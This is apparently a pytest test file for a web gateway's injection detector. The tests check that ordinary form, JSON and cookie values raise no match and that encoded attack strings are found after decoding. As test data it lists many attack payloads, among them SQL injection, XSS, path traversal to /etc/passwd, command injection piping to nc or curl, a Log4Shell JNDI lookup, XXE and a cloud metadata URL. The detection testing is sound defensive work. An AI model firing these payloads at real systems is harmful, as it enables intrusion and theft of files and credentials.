"""The syntax witness: what a model-only block needs to find in a request (gateway.witness)."""

from __future__ import annotations

import pytest

from gateway.witness import KIND_SHARE, SYNTAX, named_kinds, syntax_witness, values
from tests.conftest import make_features

KINDS = ("sqli", "xss", "traversal", "cmdi", "other")
FORM = [("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Host", "api.example"), ("Content-Type", "application/json")]

# values people send, with none of the syntax any kind of injection needs
PLAIN = [
    "Password1!", "Summer2024!", "qwerty123", "ana.lopez", "Müller", "Zoë Ångström", "東京 ラーメン", "красные туфли",
    "red shoes size 9", "walnut desk 120 x 60", "2024-11-03", "19.99", "+44 20 7946 0958", "SW1A 1AA", "ord_81f3a9c2",
    "550e8400-e29b-41d4-a716-446655440000", "eyJhbGciOiJIUzI1NiJ9", "how do I reset my password", "cat food for kittens", "sleep apnea",
    "best practice for information schema tables", "what is 2 plus 2", "price-desc", "G-XXXX", "2", "en-GB",
]


@pytest.mark.parametrize("value", PLAIN)
def test_a_value_in_plain_words_holds_no_kind_s_syntax(value: str) -> None:
    for kind in (*KINDS, "probe"):
        assert SYNTAX[kind].search(value) is None, (kind, value)


@pytest.mark.parametrize("kind,value", [
    ("sqli", "1' OR '1'='1"), ("sqli", "1 order by 3"), ("sqli", "1 union select null"), ("sqli", "admin'--"), ("sqli", "1;waitfor delay '0:0:5'"),
    ("sqli", "1 and sleep(5)"), ("sqli", "0x61646d696e"),
    ("xss", "<script>alert(1)</script>"), ("xss", "javascript:alert(1)"), ("xss", "\" onmouseover=alert(1) x=\""), ("xss", "';alert(1)//"),
    ("xss", "{{constructor.constructor('alert(1)')()}}"), ("xss", "data:text/html;base64,PHNjcmlwdD4="), ("xss", "&#60;script&#62;"),
    ("traversal", "../../etc/passwd"), ("traversal", "/etc/passwd"), ("traversal", "php://filter/resource=index.php"),
    ("traversal", "C:\\Windows\\win.ini"), ("traversal", "file:///etc/hosts"), ("traversal", "..%2f..%2f"),
    ("cmdi", "127.0.0.1; id"), ("cmdi", "x | nc 10.0.0.1 4444"), ("cmdi", "`whoami`"), ("cmdi", "$(id)"), ("cmdi", "a\nid"),
    ("cmdi", "x && curl http://e"), ("cmdi", "$IFS"), ("cmdi", "net user hacker Password1 /ADD"), ("cmdi", "ping 127.0.0.1"),
    ("cmdi", "uname -a"), ("cmdi", "whoami"), ("cmdi", "system('id')"), ("cmdi", "<!--#exec cmd=\"id\"-->"),
    ("traversal", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), ("traversal", "0x2e0x2e/0x2e0x2e/etc/issue"), ("traversal", "/var/log/apache2/access.log"),
    ("traversal", "WEB-INF/web.xml"), ("xss", "alert&lpar;1&rpar;"), ("xss", "alert`1`"),
    ("other", "db.injection.insert({success:1});"), ("other", "/out?//x.oast.fun"), ("other", "/\\evil.example"),
    ("other", "{{7*7}}"), ("other", "${jndi:ldap://x/a}"), ("other", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
    ("other", "http://169.254.169.254/latest/meta-data/"), ("other", "//evil.example"), ("other", "http://good.example@evil.example"),
    ("other", "O:8:\"stdClass\":0:{}"), ("other", "rO0ABXNyABFq"), ("other", "*)(uid=*"), ("other", "a\r\nSet-Cookie: x=1"),
    ("other", "#{7*7}"), ("other", "<%= 7*7 %>"), ("other", "__proto__"),
])
def test_each_kind_finds_its_own_syntax_and_a_probe_finds_any(kind: str, value: str) -> None:
    assert SYNTAX[kind].search(value) is not None and SYNTAX["probe"].search(value) is not None


def test_the_kinds_named_are_the_top_one_and_those_with_a_fifth_of_the_answer() -> None:
    assert named_kinds({"sqli": 0.6, "xss": KIND_SHARE, "cmdi": 0.19, "other": 0.01}) == ("sqli", "xss")
    assert named_kinds({"xss": 0.1, "sqli": 0.15, "cmdi": 0.05}) == ("sqli",)  # the top one even below a fifth
    assert named_kinds(None) == named_kinds({}) == ("probe",)                # a model without kinds: any syntax witnesses
    assert named_kinds({"exotic": 0.9, "sqli": 0.1}) == ("probe",)            # a kind this table does not know: any syntax


def test_values_are_read_where_the_application_reads_them_and_not_where_the_client_describes_itself() -> None:
    headers = [("Host", "shop.example"), ("Content-Type", "application/json"),
               ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
               ("Referer", "https://shop.example/cart?step=2"), ("Accept-Language", "en-GB,en;q=0.9"),
               ("Cookie", "sid=AbC123.sig; prefs={\"t\":\"dark\"}"), ("X-Custom", "a'b")]
    f = make_features(method="POST", target="/api/cart?coupon=SAVE10", headers=headers, body=b'{"items": [{"sku": "A-1", "note": "gift"}]}')
    read = {location: value for location, value, _ in values(f)}
    assert read == {"path": "/api/cart", "query:coupon": "SAVE10", "json:$.items[0].sku": "A-1", "json:$.items[0].note": "gift",
                    "cookie:prefs": "dark", "header:x-custom": "a'b"}
    # the JSON document's own quotes and braces, the browser's parentheses and the referer's scheme are no witness
    plain = make_features(method="POST", target="/api/cart", headers=headers[:5], body=b'{"items": [{"sku": "A-1", "note": "gift"}]}')
    assert syntax_witness(plain, ("sqli", "xss", "cmdi", "other", "traversal")) is None


@pytest.mark.parametrize("target,headers,body,kinds,location", [
    ("/item?id=1%27%20OR%201=1", None, b"", ("sqli",), "query:id"),                       # decoded as the application reads it
    ("/item?id=1%2527%2520OR", None, b"", ("sqli",), "query:id"),                         # encoded twice
    ("/login", FORM, b"user=a&pw=x%3B+id", ("cmdi",), "form:pw"),
    ("/api", JSON, b'{"a": {"b": ["ok", "<img src=x onerror=alert(1)>"]}}', ("xss",), "json:$.a.b[1]"),
    ("/api", JSON, b'{"q": "\\u003cscript\\u003e"}', ("xss",), "json:$.q"),                  # JSON escapes undone
    ("/upload", [("Host", "h"), ("Content-Type", "application/xml")], b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
     ("other",), "body"),
    ("/files/..%2f..%2fetc%2fpasswd", None, b"", ("traversal",), "path"),
    ("/", [("Host", "h"), ("Cookie", "lang=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D")], b"", ("other",), "cookie:lang"),
    ("/", [("Host", "h"), ("X-Api-Version", "${jndi:ldap://x/a}")], b"", ("other",), "header:x-api-version"),
    ("/r?to=aHR0cDovL2V2aWwuZXhhbXBsZS8vYQ==", None, b"", ("other",), "query:to"),        # base64 decoded where it is base64
])
def test_the_witness_names_the_value_that_holds_the_syntax(target: str, headers: list[tuple[str, str]] | None, body: bytes,
                                                           kinds: tuple[str, ...], location: str) -> None:
    witness = syntax_witness(make_features(method="POST" if body else "GET", target=target, headers=headers, body=body), kinds)
    assert witness is not None and witness.location == location and witness.kind == kinds[0]
    assert witness.location in witness.describe() and len(witness.fragment) <= 80


def test_a_kind_finds_only_its_own_syntax() -> None:
    f = make_features(target="/search?q=it%27s+(not)+a+drill")
    assert syntax_witness(f, ("xss",)) is None and syntax_witness(f, ("traversal", "cmdi")) is None
    assert syntax_witness(f, ("xss", "sqli")) is not None


# consent managers' cookies, in the formats they write (OneTrust: pairs; Cookiebot: an object literal; others: JSON)
ONETRUST = ("isGpcEnabled=0&datestamp=Thu+Dec+03+2026+10%3A12%3A31+GMT%2B0100+(Central+European+Standard+Time)&version=202409.1.0"
            "&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=5f1c9a8e-3b2d-4e6f-9a1b-7c8d9e0f1a2b&interactionCount=1"
            "&isAnonUser=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0&AwaitingReconsent=false")
COOKIEBOT = ("%7Bstamp%3A%27x7Qm1bJ9sOq4Ue2Q3nGZy8dH0rWf5tKcLa6pVvEiNuT%3D%3D%27%2Cnecessary%3Atrue%2Cpreferences%3Atrue%2Cstatistics%3A"
             "false%2Cmarketing%3Afalse%2Cmethod%3A%27explicit%27%2Cver%3A1%2Cutc%3A1764756751000%2Cregion%3A%27de%27%7D")


@pytest.mark.parametrize("cookie", [
    f"OptanonConsent={ONETRUST}", f"CookieConsent={COOKIEBOT}",
    'cc_cookie={"categories":["necessary","analytics"],"revision":0,"data":null,"consentTimestamp":"2026-12-03T09:12:31.120Z"}',
    "prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en-GB%22%7D",
])
def test_a_consent_cookie_is_read_as_its_script_reads_it_and_witnesses_nothing(cookie: str) -> None:
    f = make_features(target="/products/12", headers=[("Host", "shop.example"), ("Cookie", f"sid=AbC123.sig; {cookie}")])
    assert syntax_witness(f, tuple(SYNTAX)) is None


@pytest.mark.parametrize("cookie,kind", [
    ("CookieConsent={stamp:'x' OR '1'='1',necessary:true}", "sqli"),           # the structure breaks: read whole
    ("OptanonConsent=isGpcEnabled=0&groups=C0001%3A1%27%3Balert(1)%2F%2F", "xss"),  # a value of the pairs holds it
    ('prefs={"theme":"<script>alert(1)</script>"}', "xss"),
    ("lang=..%2f..%2f..%2f..%2fetc%2fpasswd", "traversal"),
])
def test_a_cookie_that_carries_an_injection_still_witnesses_it(cookie: str, kind: str) -> None:
    f = make_features(target="/products/12", headers=[("Host", "shop.example"), ("Cookie", cookie)])
    witness = syntax_witness(f, (kind,))
    assert witness is not None and witness.location.startswith("cookie:")
